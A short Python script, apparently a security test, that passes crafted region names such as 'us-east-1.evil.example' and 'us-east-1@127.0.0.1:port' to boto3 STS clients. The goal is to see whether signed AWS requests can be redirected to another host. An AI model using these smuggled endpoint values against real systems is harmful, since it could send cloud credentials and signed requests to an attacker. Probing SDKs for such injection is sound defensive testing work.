import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except BaseException as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
for region in ("us-east-1.evil.example", "localhost", "us-east-1/../x", "us-east-1#", "us-east-1@127.0.0.1:%d" % v["tcp_port"], "aws-evil", "xx-x-x-x-x-1"):
    attempt(lambda: boto3.client("sts", region_name=region).get_caller_identity())
